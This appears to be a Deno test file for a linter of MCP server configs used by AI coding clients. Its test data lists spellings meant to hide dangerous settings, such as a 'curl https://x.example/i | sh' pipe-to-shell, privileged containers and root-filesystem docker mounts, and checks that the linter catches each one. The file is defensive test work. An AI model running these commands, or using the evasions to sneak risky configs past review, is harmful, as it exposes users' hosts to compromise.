/**
 * Red team 11: the same danger written so that a lint rule, or the view a
 * reviewer reads, missed it. Each case failed before its fix.
 *
 * @module
 */

import assert from "node:assert/strict";
import { lintServer } from "../../src/configs/lint_server.ts";
import { serverView } from "../../src/configs/server_view.ts";
import {
  BUILTIN_CONFIG_KINDS,
  findConfigKind,
} from "../../src/configs/config_kinds.ts";
import { serverViews } from "../../src/configs/server_view.ts";
import { diffConfig } from "../../src/configs/config_diff.ts";
import { formatConfigDiff, summaryLines } from "../../src/cli/diff_report.ts";

const DIGEST = "img@sha256:" + "a".repeat(64);

// [rule, entry, field the finding must name]
const BYPASSES: [string, Record<string, unknown>, string][] = [
  // A launcher in front of the program: the client still runs the shell,
  // the runner or docker.
  ["shell-wrapper", { command: "env", args: ["sh", "-c", "x"] }, "args[1]"],
  ["shell-wrapper", {
    command: "/usr/bin/env",
    args: ["-i", "A=1", "bash", "-c", "x"],
  }, "args[3]"],
  ["shell-wrapper", { command: "busybox", args: ["sh", "-c", "x"] }, "args[1]"],
  ["shell-wrapper", { command: "env", args: ["-S", "sh -c", "x"] }, "args[1]"],
  ["shell-wrapper", {
    command: "env",
    args: ["--split-string=A=1 bash -c", "x"],
  }, "args[0]"],
  ["shell-wrapper", {
    command: "nice",
    args: ["-n", "5", "sh", "-c", "x"],
  }, "args[3]"],
  [
    "unpinned-package",
    { command: "env", args: ["npx", "-y", "pkg"] },
    "args[2]",
  ],
  ["docker-privileged", {
    command: "sudo",
    args: ["docker", "run", "--privileged", DIGEST],
  }, "args[2]"],
  // Windows spellings of the program.
  ["unpinned-package", { command: "npx.cmd", args: ["-y", "pkg"] }, "args[1]"],
  ["unpinned-package", { command: "NPX", args: ["pkg"] }, "args[0]"],
  ["docker-host-mount", {
    command: "docker.exe",
    args: ["run", "-v", "/:/h", DIGEST],
  }, "args[2]"],
  // PowerShell: any unambiguous prefix of -Command / -EncodedCommand.
  ["shell-wrapper", {
    command: "powershell",
    args: ["-Comm", "x"],
  }, "args[0]"],
  ["shell-wrapper", {
    command: "pwsh",
    args: ["-encodedC", "eA=="],
  }, "args[0]"],
  // docker's global options before `run`.
  ["docker-privileged", {
    command: "docker",
    args: ["--context", "default", "run", "--privileged", DIGEST],
  }, "args[3]"],
  ["docker-host-mount", {
    command: "docker",
    args: ["-D", "run", "-v", "/:/h", DIGEST],
  }, "args[3]"],
  ["docker-host-mount", {
    command: "podman",
    args: ["--root", "/tmp/r", "run", "-v", "/:/h", DIGEST],
  }, "args[4]"],
  // Short options docker (pflag) reads: `-v=…`, `-v…`, clusters.
  ["docker-host-mount", {
    command: "docker",
    args: ["run", "-v=/:/h", DIGEST],
  }, "args[1]"],
  ["docker-host-mount", {
    command: "docker",
    args: ["run", "-v/:/h", DIGEST],
  }, "args[1]"],
  ["docker-host-mount", {
    command: "docker",
    args: ["run", "-itv", "/:/h", DIGEST],
  }, "args[2]"],
  // A value option the parser did not know was read as the image, and
  // the options after it were not looked at.
  ["docker-host-mount", {
    command: "docker",
    args: ["run", "--stop-timeout", "5", "-v", "/:/h", DIGEST],
  }, "args[4]"],
  ["docker-privileged", {
    command: "podman",
    args: ["run", "--pod", "p", "--privileged", DIGEST],
  }, "args[3]"],
  // A host path docker cleans to the root or the home folder.
  ["docker-host-mount", {
    command: "docker",
    args: ["run", "-v", "/./:/h", DIGEST],
  }, "args[2]"],
  ["docker-host-mount", {
    command: "docker",
    args: ["run", "-v", "/etc/..:/h", DIGEST],
  }, "args[2]"],
  ["docker-host-mount", {
    command: "docker",
    args: ["run", "--mount", "type=bind,src=/home/u/.,dst=/h", DIGEST],
  }, "args[2]"],
  // docker reads --mount as CSV, and lowercases the type.
  ["docker-host-mount", {
    command: "docker",
    args: ["run", "--mount", '"type=bind","src=/","dst=/h"', DIGEST],
  }, "args[2]"],
  ["docker-host-mount", {
    command: "docker",
    args: ["run", "--mount", "type=BIND,src=/,dst=/h", DIGEST],
  }, "args[2]"],
  // nerdctl and finch take docker's command line.
  ["docker-privileged", {
    command: "nerdctl",
    args: ["run", "--privileged", DIGEST],
  }, "args[1]"],
  // A second URL spelling a client may read in place of the first.
  ["insecure-http", {
    url: "https://mcp.example.com/",
    serverUrl: "http://mcp.example.com/",
  }, "other.serverUrl"],
  // A package runner's global options before its subcommand.
  [
    "unpinned-package",
    { command: "npm", args: ["-y", "exec", "pkg"] },
    "args[2]",
  ],
  ["unpinned-package", {
    command: "pnpm",
    args: ["--dir", "x", "dlx", "pkg"],
  }, "args[3]"],
  ["unpinned-package", {
    command: "uv",
    args: ["--quiet", "tool", "run", "pkg"],
  }, "args[3]"],
  // uvx --with installs a second package, unpinned.
  ["unpinned-package", {
    command: "uvx",
    args: ["--with", "evil", "tool==1.0.0"],
  }, "args[1]"],
  // URLs a WHATWG parser (every Node client) reads as http://.
  // Node's spawn turns a number in args into text: a client that does not
  // check types runs `sh -c "…" 1`, while the view keeps the list in
  // `other` (not a list of strings).
  ["shell-wrapper", { command: "sh", args: ["-c", "x", 1] }, "args[0]"],
  ["pipe-to-shell", {
    command: "sh",
    args: ["-c", "curl https://x.example/i | sh", 1],
  }, "args[1]"],
  [
    "unpinned-package",
    { command: "npx", args: ["-y", "pkg", true] },
    "args[1]",
  ],
  [
    "shell-wrapper",
    { type: "local", command: ["sh", "-c", "x", 2] },
    "args[0]",
  ],
  ["insecure-http", { url: " http://mcp.example.com/" }, "url"],
  ["insecure-http", { url: "ht\ttp://mcp.example.com/" }, "url"],
  ["insecure-http", { url: "http:/mcp.example.com/" }, "url"],
  ["insecure-http", { url: "http:mcp.example.com/" }, "url"],
  ["insecure-http", { url: "http:\\\\mcp.example.com\\" }, "url"],
];

for (const [rule, entry, field] of BYPASSES) {
  Deno.test(`red team 11: ${rule} catches ${JSON.stringify(entry)}`, () => {
    const findings = lintServer(serverView("s", entry));
    const hit = findings.find((finding) => finding.rule === rule);
    assert.ok(hit, `missed: ${JSON.stringify(findings)}`);
    assert.equal(hit.field, field);
  });
}

// Near misses that must stay clean, so the fixes above do not cry wolf.
const CLEAN: [string, Record<string, unknown>][] = [
  ["shell-wrapper", { command: "env", args: ["A=1", "node", "server.js"] }],
  ["docker-host-mount", {
    command: "docker",
    args: ["run", "-it", DIGEST, "-v", "/:/h"],
  }],
  ["docker-host-mount", {
    command: "docker",
    args: ["run", "-v", "/srv/data:/data", DIGEST],
  }],
  ["insecure-http", { url: "https://mcp.example.com/" }],
  ["insecure-http", { url: "http://localhost:3000/" }],
  ["unpinned-package", {
    command: "uvx",
    args: ["--with", "a==1.0", "t==1.0"],
  }],
];

for (const [rule, entry] of CLEAN) {
  Deno.test(`red team 11: ${rule} leaves ${JSON.stringify(entry)}`, () => {
    const findings = lintServer(serverView("s", entry));
    assert.deepEqual(findings.filter((f) => f.rule === rule), []);
  });
}

Deno.test("red team 11: Crush reads dotted-I spellings of a field as Go folds them", () => {
  const crush = findConfigKind("crush.json", BUILTIN_CONFIG_KINDS)!;
  // Go folds U+0130 and U+0131 to "I": Crush reads both as `disabled`.
  for (const key of ["d\u0130sabled", "d\u0131sabled"]) {
    const [view] = serverViews(
      { mcp: { s: { command: "node", [key]: true } } },
      crush,
    );
    assert.equal(view?.enabled, false, key);
    assert.deepEqual(view?.other, {}, key);
  }
});

// Each of these made one of lint's regular expressions quadratic: a config
// of 1 MiB (the largest the tool reads) took minutes to lint, in `verify`
// and in the server's pre-receive hook. Linear now: well under a second.
const SLOW_INPUTS: Record<string, string> = {
  "curl … (pipe-to-shell)": "curl ",
  "a.a.… (password in a URL)": "a.",
  "-a-a… (password in a URL)": "-a",
  "${${… (references)": "${",
  "{env:{env:… (references)": "{env:",
  "a,a,… (uv --with)": "a,",
};

for (const [name, unit] of Object.entries(SLOW_INPUTS)) {
  Deno.test(`red team 11: lint stays linear on ${name}`, () => {
    const value = unit.repeat(Math.floor(512 * 1024 / unit.length));
    const started = performance.now();
    lintServer(serverView("s", {
      command: "sh",
      args: ["-c", value],
      env: { A: value },
      headers: { B: value },
      url: value,
    }));
    lintServer(serverView("s", { command: "uvx", args: ["--with", value] }));
    const elapsed = performance.now() - started;
    assert.ok(elapsed < 5000, `${Math.round(elapsed)} ms`);
  });
}

Deno.test("red team 11: diff and the pre-commit summary show a setting outside the servers that a client acts on", async () => {
  const kind = findConfigKind(".claude/settings.json", BUILTIN_CONFIG_KINDS)!;
  const bytes = (value: unknown) =>
    new TextEncoder().encode(JSON.stringify(value));
  const token = "ghp_" + "Zx81kQp0Lm2Nb7Vc4Xz9Ws3Ed6Rf5Tg1Yh8U";
  const diff = await diffConfig(
    {
      path: ".claude/settings.json",
      kind,
      bytes: bytes({ enableAllProjectMcpServers: false, mcpServers: {} }),
    },
    {
      path: ".claude/settings.json",
      kind,
      bytes: bytes({
        enableAllProjectMcpServers: true,
        mcpServers: {},
        hooks: { Stop: [{ hooks: [{ type: "command", command: token }] }] },
      }),
    },
  );
  // Before: "no server changed (only formatting, or settings outside the
  // servers)", and the summary "no server changed".
  assert.deepEqual(summaryLines(diff!), [
    ".claude/settings.json: ~ setting enableAllProjectMcpServers",
    ".claude/settings.json: + setting hooks",
  ]);
  const text = formatConfigDiff(diff!);
  assert.match(text, /~ setting enableAllProjectMcpServers: false → true\n/);
  assert.match(text, /\+ setting hooks: \{"Stop"/);
  assert.ok(!text.includes(token), text);
});

Deno.test("red team 11: a disabled switch the client ignores is not shown as switching the server off", () => {
  // Claude Code, VS Code and Gemini CLI have no per-server switch in the
  // file: they start the server whatever "disabled" says, so the view must
  // not read it as "disabled" (the diff's heading said "stdio, disabled").
  for (
    const path of [".mcp.json", ".vscode/mcp.json", ".gemini/settings.json"]
  ) {
    const kind = findConfigKind(path, BUILTIN_CONFIG_KINDS)!;
    const table = kind.serversKey;
    const [view] = serverViews(
      { [table]: { s: { command: "node", disabled: true } } },
      kind,
    );
    assert.equal(view?.enabled, true, path);
    assert.deepEqual(view?.other, { disabled: true }, path);
  }
  // Cline honours it.
  const cline = findConfigKind(
    "cline_mcp_settings.json",
    BUILTIN_CONFIG_KINDS,
  )!;
  const [off] = serverViews(
    { mcpServers: { s: { command: "node", disabled: true } } },
    cline,
  );
  assert.equal(off?.enabled, false);
});
